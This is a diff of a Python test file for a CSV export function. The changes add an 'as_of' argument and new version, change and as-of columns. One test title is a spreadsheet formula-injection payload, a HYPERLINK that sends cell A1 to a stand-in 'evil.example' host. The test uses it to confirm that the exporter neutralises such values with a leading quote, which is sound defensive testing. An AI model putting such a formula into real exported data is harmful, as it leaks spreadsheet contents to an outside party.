@@ -31,7 +31,7 @@ def test_a_line_is_read_back_as_it_was(tmp_path: object) -> None:
     file = io.StringIO(newline="")
     title = '=HYPERLINK("https://evil.example?"&A1,"Click")\r\n"x", y'
     assert (
-        write_csv([found(title, "The court sat. Nobody came.", Span("body", 4, 9)), found("b", "")], file)
+        write_csv([found(title, "The court sat. Nobody came.", Span("body", 4, 9)), found("b", "")], file, 52)
         == 2
     )
     header, first, second = csv.reader(io.StringIO(file.getvalue(), newline=""))
@@ -40,6 +40,7 @@ def test_a_line_is_read_back_as_it_was(tmp_path: object) -> None:
     assert line["title"] == f"'{title}"
     assert line["match"] == "The court sat."
     assert line["authors"] == "Ann; Bo"
+    assert (line["version"], line["change"], line["as_of"]) == ("1", "7", "52")
     assert line["seen"] == "2026-11-23T08:00:00Z"
     assert dict(zip(header, second, strict=True))["match"] == ""
 
@@ -49,6 +50,6 @@ def test_a_record_says_where_it_matched() -> None:
     assert plain["match"] == "A man."
     assert plain["matched_in"] == ["title", "caption"]
     assert plain["spans"] == [["title", 4, 9], ["caption", 2, 5]]
-    assert (plain["article"], plain["version"], plain["text"]) == (3, 7, "Much else.")
+    assert (plain["article"], plain["version"], plain["change"], plain["text"]) == (3, 1, 7, "Much else.")
     only_title = record(found("The court", "Much else. More.", Span("title", 4, 9)))
     assert only_title["match"].startswith("Much else.")
